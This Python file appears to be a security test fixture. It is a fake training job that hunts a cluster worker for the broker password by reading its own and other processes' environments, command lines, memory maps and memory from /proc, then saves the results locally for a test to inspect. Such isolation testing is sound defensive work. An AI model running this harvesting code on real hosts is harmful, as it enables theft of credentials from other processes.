"""A training script that hunts for the worker's broker password, then completes.

It reads what a hostile script on a worker can reach: its own environment, its own
``/proc/self/environ`` (for a forked process, the fork server's original block), the
``environ``, ``cmdline``, ``maps`` and ``mem`` of every ancestor (the fork server, the
worker), the ``environ`` and ``cmdline`` of every process it can see, and the password
file when told its path. Everything read goes to ``<out>/found.json``; the test looks for
the password there (the script is not told it).
"""

import json
import os
from pathlib import Path

import rung as det


def read(path: str) -> dict[str, str]:
    try:
        with open(path, "rb") as handle:
            return {"outcome": "read", "text": handle.read(1 << 20).decode("latin-1")}
    except OSError as exc:
        return {"outcome": type(exc).__name__, "text": ""}


def parent_of(pid: int) -> int:
    with open(f"/proc/{pid}/stat", encoding="utf-8") as handle:
        return int(handle.read().rsplit(")", 1)[1].split()[1])


def hunt(secret: str) -> dict[str, object]:
    reads: list[dict[str, object]] = []

    def attempt(what: str, path: str, pid: int = 0) -> None:
        reads.append({"what": what, "pid": pid, "path": path, **read(path)})

    reads.append({"what": "own environment", "outcome": "read", "text": repr(dict(os.environ))})
    attempt("own /proc/self/environ", "/proc/self/environ")
    pid, depth = os.getppid(), 0
    while pid > 1:
        depth += 1
        for part in ("environ", "cmdline", "maps", "mem"):
            attempt(f"ancestor {depth} {part}", f"/proc/{pid}/{part}", pid)
        try:
            pid = parent_of(pid)
        except OSError:
            break
    me = os.getpid()
    for entry in sorted(Path("/proc").iterdir(), key=lambda p: p.name):
        if entry.name.isdigit() and int(entry.name) != me:
            attempt("every process environ", f"{entry}/environ", int(entry.name))
            attempt("every process cmdline", f"{entry}/cmdline", int(entry.name))
    if secret:
        attempt("password file", secret)
    return {"uid": os.getuid(), "pid": me, "ppid": os.getppid(), "reads": reads}


if __name__ == "__main__":
    info = det.get_cluster_info()
    assert info is not None
    hparams = info.trial.hparams
    found = hunt(str(hparams["secret"]))
    Path(str(hparams["out"]), "found.json").write_text(json.dumps(found))
    with det.core.init() as core_context:
        core_context.train.report_validation_metrics(1, {"x": 0.0})
